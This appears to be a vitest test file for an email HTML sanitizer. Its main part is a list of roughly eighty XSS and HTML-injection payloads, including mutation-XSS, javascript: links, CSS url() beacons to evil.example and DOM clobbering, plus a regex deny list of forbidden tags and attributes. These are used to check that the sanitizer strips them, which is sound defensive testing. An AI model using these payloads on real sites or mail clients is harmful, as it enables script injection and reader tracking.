import { describe, expect, it } from 'vitest'
import { elementsOf, parseHtml } from './html-tree.ts'
import { cleanLetterHtml } from './letter-html.ts'

const clean = (html: string): string => cleanLetterHtml(html).html

const attacks = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror="alert(1)">',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="https://ok.example" onclick="alert(1)" onmouseover=alert(1)>x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<applet code=x></applet>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; body{background:url(https://evil.example)}</style>',
  '<form action="https://evil.example"><input name=p><button>Go</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<isindex action="javascript:alert(1)">',
  '<video poster="https://evil.example/p"><source src="https://evil.example/v" onerror=alert(1)></video>',
  '<audio src="https://evil.example/a" autoplay>',
  '<table background="https://evil.example/b"><tr><td background="javascript:alert(1)">x</table>',
  '<body background="https://evil.example/b" onload=alert(1)>x',
  '<img src="https://evil.example/a.png" srcset="https://evil.example/b.png 2x">',
  '<img src="//evil.example/a.png">',
  '<img lowsrc="https://evil.example/a.png" dynsrc="https://evil.example/a.png">',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<picture><source srcset="https://evil.example/a.png"><img src="https://evil.example/b.png"></picture>',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<p style="background-image:u\\72l(https://evil.example/x)">x</p>',
  '<p style="background:/**/url(https://evil.example/x)">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="-moz-binding:url(https://evil.example/x)">x</p>',
  '<p style="behavior:url(#x)">x</p>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x</p>',
  '<p style="position:absolute;inset:0;opacity:0">x</p>',
  '<p style="margin-top:-500px;transform:translate(-100px)">x</p>',
  '<p style="list-style:url(https://evil.example/x)">x</p>',
  '<p style="content:url(https://evil.example/x);cursor:url(https://evil.example/x),auto">x</p>',
  '<p style="--x:url(https://evil.example);background:var(--x)">x</p>',
  '<p style="background:image-set(\'https://evil.example/x\' 1x)">x</p>',
  '<!--><script>alert(1)</script>-->',
  '<!--[if gte mso 9]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<div id="location" name="cookie">clobber</div>',
  '<a target="_top" ping="https://evil.example" href="https://ok.example">x</a>',
  '<details ontoggle=alert(1) open>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<x onclick=alert(1)>x</x>',
  '<p title="&quot;><img src=x onerror=alert(1)>">x</p>',
  '"><img src=x onerror=alert(1)>',
  '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
  '<area shape=default href="javascript:alert(1)">',
  '<dialog open style="position:fixed">x</dialog>',
  '<portal src="https://evil.example">',
  '<keygen autofocus onfocus=alert(1)>',
  `${'<div>'.repeat(2_000)}<img src=x onerror=alert(1)>`,
]

const forbiddenTags =
  /^(?:script|style|svg|math|iframe|object|embed|applet|base|meta|link|form|input|button|textarea|select|video|audio|source|picture|frame|frameset|area|map|template|dialog|portal|body|html|head)$/

describe('hostile HTML', () => {
  it.each(attacks)('%#: %s', (attack) => {
    const html = clean(attack)
    for (const element of elementsOf(parseHtml(html))) {
      expect(element.tag).not.toMatch(forbiddenTags)
      for (const [name, value] of element.attributes) {
        expect(name).not.toMatch(
          /^on|^srcset$|^srcdoc$|^background$|^poster$|^ping$|^id$|^name$|^formaction$|^action$|:/,
        )
        if (name === 'href') expect(value).toMatch(/^(?:https?|mailto|tel|sms|ftp):/)
        if (name === 'src') expect(value).toMatch(/^data:image\/(?:png|jpe?g|gif|webp|bmp);/)
        if (name === 'style')
          expect(value).not.toMatch(
            /url|expression|position|transform|behavior|binding|var\(|image-set|z-index|opacity|-\d/i,
          )
        if (name === 'target') expect(value).toBe('_blank')
      }
    }
  })
})

describe('a letter', () => {
  it('keeps its looks', () => {
    const html =
      '<table width="600" cellpadding="4"><tr><td colspan="2" style="color: #333; padding: 4px">A <b>bold</b> <font color="red">word</font></td></tr></table>'
    expect(clean(html)).toBe(
      '<table width="600" cellpadding="4"><tr><td colspan="2" style="color: #333; padding: 4px">A <b>bold</b> <font color="red">word</font></td></tr></table>',
    )
  })

  it('opens its links elsewhere and tells them nothing', () => {
    expect(clean('<a href="https://shop.example/a?b=1&amp;c=2">x</a>')).toBe(
      '<a href="https://shop.example/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer nofollow">x</a>',
    )
  })

  it('loads remote images only when asked', () => {
    const cleaned = cleanLetterHtml(
      '<img width="10" src="https://shop.example/a.png?x=1&amp;y=2" alt="logo">',
    )
    expect(cleaned.hasRemoteImages).toBe(true)
    expect(cleaned.html).toContain('data-otk-src="https://shop.example/a.png?x=1&amp;y=2"')
    expect(cleaned.html).not.toContain(' src="https')
    const asked = cleanLetterHtml(
      '<img width="10" src="https://shop.example/a.png?x=1&amp;y=2" alt="logo">',
      { showsRemoteImages: true },
    )
    expect(asked.html).toBe(
      '<img width="10" alt="logo" src="https://shop.example/a.png?x=1&amp;y=2" referrerpolicy="no-referrer" />',
    )
  })

  it('cannot bring its own waiting image', () => {
    const cleaned = clean(
      '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" data-otk-src="javascript:alert(1)">',
    )
    expect(cleaned).not.toContain('javascript')
  })

  it('shows the images it carries, when told where they are, or leaves them waiting', () => {
    const html = '<img src="cid:shot%401"><img src="CID: <b@c> "><img src="gone@x" alt="x">'
    const resolveCid = (id: string) => (id === 'gone@x' ? null : `/files/${id}`)
    expect(cleanLetterHtml(html, { resolveCid }).html).toBe(
      '<img src="/files/shot@1" /><img src="/files/b@c" /><img alt="x" />',
    )
    expect(clean('<img src="cid:shot@1">')).toMatch(/^<img src="data:image[^"]+" data-otk-cid="shot@1" \/>$/)
  })
})
